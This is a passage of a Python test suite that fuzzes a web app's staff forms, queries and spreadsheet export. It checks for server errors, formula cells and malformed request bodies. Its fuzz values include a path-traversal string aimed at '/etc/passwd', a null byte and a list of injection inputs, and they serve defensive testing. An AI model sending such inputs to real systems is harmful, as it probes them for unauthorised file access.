    assert risky == [] and any(c.startswith("'=HYPERLINK") for c in cells)
    response = session.get(base + "/staff/export", params={"format": "xlsx"})
    assert response.status_code == 200
    sheet_cells = [c for ws in openpyxl.load_workbook(io.BytesIO(response.content)).worksheets
                   for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in sheet_cells if c.data_type == "f"] == []  # not one formula


staff_value = st.one_of(st.text(max_size=80), st.sampled_from([*INJECTIONS, "0", "-1", "99999999999999999999",
                                                               "../../etc/passwd", "%00", "a" * 5000]))


@FEW
@given(data=st.data())
def test_the_staff_forms_answer_generated_input_without_falling_over(bot, staff, data):
    session, base = staff["session"], staff["base"]
    answer = data.draw(st.sampled_from([*staff["ids"], 0, 10**12]), label="answer id")
    path = data.draw(st.sampled_from([f"/staff/answers/{answer}/redact", f"/staff/answers/{answer}/reviewed",
                                      f"/staff/answers/{answer}/codes", "/staff/codes", "/staff/users",
                                      "/staff/handover", f"/staff/answers/{answer}/codings/{answer}/confirm"]),
                     label="path")
    form = data.draw(st.dictionaries(st.sampled_from(["words", "start", "end", "selected", "version", "code", "theme",
                                                      "label", "description", "apply", "answer", "back", "name",
                                                      "role", "password", "confirm", "lang", "themes", "assisted"]),
                                     staff_value, max_size=6), label="form")
    response = session.post(base + path, data={**form, "csrf_token": staff["csrf"]}, allow_redirects=False)
    assert response.status_code < 500, (path, form, response.status_code)
    assert response.status_code != 403  # the session and its token still hold


@FEW
@given(path=st.sampled_from(["/staff/answers", "/staff/review", "/staff/dashboard", "/staff/export", "/staff/audit"]),
       query=st.dictionaries(st.sampled_from(["format", "theme", "question", "channel", "language", "nation",
                                              "assisted", "page", "q", "code", "status", "next", "done"]),
                             staff_value, max_size=4))
def test_the_staff_pages_answer_a_generated_query_without_falling_over(staff, path, query):
    response = staff["session"].get(staff["base"] + path, params=query)
    assert response.status_code < 500, (path, query, response.status_code)


def test_the_staff_area_refuses_an_oversized_or_broken_body(staff):
    session, base, csrf = staff["session"], staff["base"], staff["csrf"]
    target = base + f"/staff/answers/{staff['ids'][0]}/redact"
    big = session.post(target, data={"csrf_token": csrf, "words": "x" * (2 * MAX_BODY)}, allow_redirects=False)
    assert big.status_code == 413
    broken = session.post(target, data=b"csrf_token=" + csrf.encode() + b"&words=%FF%FE\xff",
                          headers={"Content-Type": "application/x-www-form-urlencoded"}, allow_redirects=False)
    assert broken.status_code == 400 and "not UTF-8" in broken.text
    login = session.post(base + "/staff/login", data=b"name=%FF&password=\xff",
                         headers={"Content-Type": "application/x-www-form-urlencoded"}, allow_redirects=False)
    assert login.status_code == 400
